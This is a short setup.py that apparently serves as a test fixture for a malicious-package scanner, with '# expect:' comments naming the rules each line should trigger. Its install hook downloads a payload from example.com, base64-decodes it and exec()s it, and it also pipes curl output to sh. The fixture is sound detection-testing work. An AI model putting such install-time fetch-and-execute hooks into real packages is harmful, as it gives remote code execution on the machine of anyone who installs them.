import base64
import os, sys
import subprocess as sp
from urllib.request import urlopen
from setuptools import setup
from setuptools.command.install import install as _install
from setuptools.command import develop


class PostInstall(_install):
    def run(self):
        _install.run(self)
        data = urlopen("https://example.com/p").read()
        exec(base64.b64decode(data))  # expect: base64-to-interpreter,dynamic-eval
        sp.call(["sh", "-c", "curl -s https://example.com/x | sh"])  # expect: pipe-to-shell


class Dev(develop.develop):
    pass


class Helper(object):
    pass

# eval(this) is a comment
setup(
    name="example",
    version="1.0",
    cmdclass={"install": PostInstall, "develop": Dev},
)
